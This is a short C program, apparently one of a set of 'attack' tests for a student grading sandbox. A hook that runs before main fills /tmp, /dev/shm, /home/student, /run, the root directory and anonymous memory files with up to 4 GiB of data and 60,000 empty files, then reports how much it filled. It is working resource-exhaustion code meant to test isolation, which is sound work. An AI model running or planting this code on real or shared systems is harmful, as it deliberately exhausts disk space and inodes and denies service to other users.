// Writes what fits, where it may, once: with no port to listen on. 4 GiB and 60,000 files at most.
#include "attack.h"
#include <sys/mman.h>

static long mebibytes, names;

static void pour(int fd)
{
    static char block[1 << 20];
    for (int i = 0; fd >= 0 && i < 15 && mebibytes < 4096 && write(fd, block, sizeof block) > 0; i++)
        mebibytes++;
}

BEFORE_MAIN fill(void)
{
    static const char *folders[] = {"/tmp", "/var/tmp", "/dev/shm", "/home/student", ".", "part_a",
                                    "/dev/mqueue", "/run", "/"};
    signal(SIGXFSZ, SIG_IGN);
    if (!has_no_argument())
        return;
    for (unsigned f = 0; f < sizeof folders / sizeof *folders; f++) {
        char path[200];
        long before = names;
        for (int i = 0; i < 40 && mebibytes < 4096; i++) {
            snprintf(path, sizeof path, "%s/" MARK "-%d", folders[f], i);
            int fd = open(path, O_WRONLY | O_CREAT, 0600);
            pour(fd);
            close(fd);
        }
        for (int i = 0; i < 25000 && names < 60000; i++, names++) {
            snprintf(path, sizeof path, "%s/" MARK "-small-%d", folders[f], i);
            if (mknod(path, S_IFREG | 0600, 0) < 0)
                break;
        }
        if (names - before >= 25000)
            tell("FULL of names: %s\n", folders[f]);
    }
    for (int i = 0; i < 16 && mebibytes < 4096; i++)
        pour(memfd_create(MARK, 0));
    tell("filled %ld MiB, %ld names\n", mebibytes, names);
    rest(); // full as it is, and so that what was said is kept
}
